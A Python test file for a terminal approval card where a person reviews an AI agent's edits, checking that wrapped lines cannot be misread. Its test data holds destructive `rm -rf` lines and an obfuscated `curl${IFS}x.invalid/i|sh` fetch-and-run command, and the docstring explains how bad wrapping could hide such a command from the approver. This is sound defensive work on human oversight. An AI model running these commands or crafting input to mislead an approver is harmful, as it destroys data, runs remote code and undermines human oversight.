"""Review h174 of what a person sees before approving: a file's change on the approval card.

The card's command row draws a space where it wraps (review h162), but the change row (the
diff of a Write, an Edit, a Codex patch) was wrapped by rich as before: at 80x24 a line
`rm -rf DIR/ *` (DIR as wide as the column) was drawn `rm -rf`, `DIR/`, `*`, exactly as
`rm -rf DIR/*` is. And a line longer than the column with no space in it was folded with
nothing to say so, its rest starting with whatever the agent put there: the added line
`x=$((111...1-1));curl${IFS}x.invalid/i|sh` was drawn with `-1));curl${IFS}x.invalid/i|sh`
on a row of its own, which reads as a line the change removes. Each line of a change is now
wrapped on its own: `␣` where a space breaks it, and `⟩` before each row it goes on to. The
same held for the rule line of a profile rule's preview (p) and the rows of the agent's input
(a tool with no diff): they are wrapped with the marks too.

The fixed daemon double, the console at 80x24 with NO_COLOR; the card's lines read as drawn.
"""

from __future__ import annotations

import io
from typing import Any

import pytest
from textual.geometry import Region

from console.text import change_diff, escaped_line
from console.tui.screens.approval import ApprovalScreen
from console.wrapping import BREAK_MARK, CONTINUED
from tests.tui.fixed import APPROVALS
from tests.tui.screen import app_with, attached, until
from widgets.panels import ApprovalCard

pytestmark = pytest.mark.usefixtures("utc")

# One line of each kind per length: whatever the column's width, one of each meets it exactly.
LINES = [line for n in range(40, 70)
         for line in (f"rm -rf /workspace/{'b' * n}/ *", f"x=$(({'1' * n}-1));curl${{IFS}}x.invalid/i|sh")]


def edit(content: str) -> dict[str, Any]:
    detail = {"tool_name": "Edit", "cwd": "/workspace",
              "tool_input": {"file_path": "/workspace/build.sh", "old_string": "make\n",
                             "new_string": f"make\n{content}"}}
    return {**APPROVALS[0], "id": "ed01", "kind": "custom", "subject": "Edit /workspace/build.sh",
            "title": "Edit /workspace/build.sh", "summary": "custom Edit /workspace/build.sh",
            "detail": detail}


def change_as_read(rows: list[str]) -> list[str]:
    """The change row's lines as a person reads them off the card: a row that starts with
    CONTINUED goes on the line above, a BREAK_MARK is the space the break took."""
    start = next(i for i, row in enumerate(rows) if row.lstrip().startswith("change "))
    column = rows[start].index("--- ")
    lines: list[str] = []
    for row in rows[start:]:
        if row[:column].strip() and lines:  # the next row's label: the change has ended
            break
        text = row[column:].rstrip().replace(BREAK_MARK, " ")
        if text.startswith(CONTINUED) and lines:
            lines[-1] += text[len(CONTINUED):]
        else:
            lines.append(text)
    return lines


async def card_rows(req: dict) -> tuple[int, list[str]]:
    """The approval card of `req` at 80x24, opened by the keyboard: its width and its rows."""
    app = app_with(approvals=[req])
    async with app.run_test(size=(80, 24)) as pilot:
        await attached(pilot)
        await pilot.press("a")
        await until(pilot, lambda: isinstance(app.screen, ApprovalScreen)
                    and app.screen.query_one(ApprovalCard).holds is not None, "the card")
        await pilot.pause()
        card = app.screen.query_one(ApprovalCard)
        return card.size.width, [strip.text for strip in
                                 card.render_lines(Region(0, 0, card.size.width, card.size.height))]


async def test_every_line_of_a_change_reads_as_it_is_written_at_80x24(
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NO_COLOR", "1")
    req = edit("\n".join(LINES) + "\n")
    width, rows = await card_rows(req)
    assert width < 80  # the width the lines were made to meet
    expected = [escaped_line(line) for line in change_diff(req["detail"]) or []]
    read = change_as_read(rows)
    assert read == expected, "\n".join(rows)


def test_a_profile_rules_preview_reads_as_the_rule_it_saves_at_every_width() -> None:
    """p on the card previews the rule it saves: its line was wrapped by rich, so at 78
    columns `allow "rm -rf DIR/ .."` was drawn `... DIR/` and `.."`, the rule `rm -rf DIR/..`."""
    from rich.console import Console

    from console.tui.screens.approval import preview_body

    line = f'+ demo exec allow "rm -rf /workspace/{"b" * 40}/ .."'
    edit = {"file": "config.toml", "profile": "demo", "section": "exec", "list": "allow",
            "rule": line.split('"')[1], "lines": [line], "diff": "", "changed": False,
            "overridden_by": None}
    for width in range(50, 81):
        console = Console(width=width, file=io.StringIO(), record=True, color_system=None)
        console.print(preview_body(edit, True))
        rows = console.export_text().split("\n")
        start = next(i for i, row in enumerate(rows) if row.startswith("+ demo"))
        read = rows[start].rstrip()
        for row in rows[start + 1:]:
            if not row.startswith(CONTINUED):
                break
            read += row[len(CONTINUED):].rstrip()
        assert read.replace(BREAK_MARK, " ") == line, "\n".join(rows)


async def test_every_input_of_the_agents_reads_as_it_is_written_at_80x24() -> None:
    """A tool without a diff (NotebookEdit's new cell, any tool's input) is shown in rows of
    the agent's input, wrapped by rich as the command row was before review h162: a value
    `rm -rf DIR/ ..` broken at its last space read as `rm -rf DIR/..`."""
    values = {f"k{n}": f"rm -rf /workspace/{'b' * n}/ .." for n in range(40, 70)}
    req = {**APPROVALS[0], "id": "nb01", "kind": "custom", "subject": "NotebookEdit /workspace/a.ipynb",
           "title": "NotebookEdit /workspace/a.ipynb", "summary": "custom NotebookEdit",
           "detail": {"cwd": "/workspace", **values}}
    _width, rows = await card_rows(req)
    column = rows[next(i for i, row in enumerate(rows) if row.startswith("kind"))].index("custom")
    read: dict[str, str] = {}
    label = ""
    for row in rows:
        if row[:column].strip():
            label = row[:column].split(" (agent)")[0].strip()
            read[label] = row[column:].rstrip()
        elif label:
            read[label] += row[column:].rstrip()
    for key, value in values.items():
        assert read[key].replace(BREAK_MARK, " ") == value, "\n".join(rows)
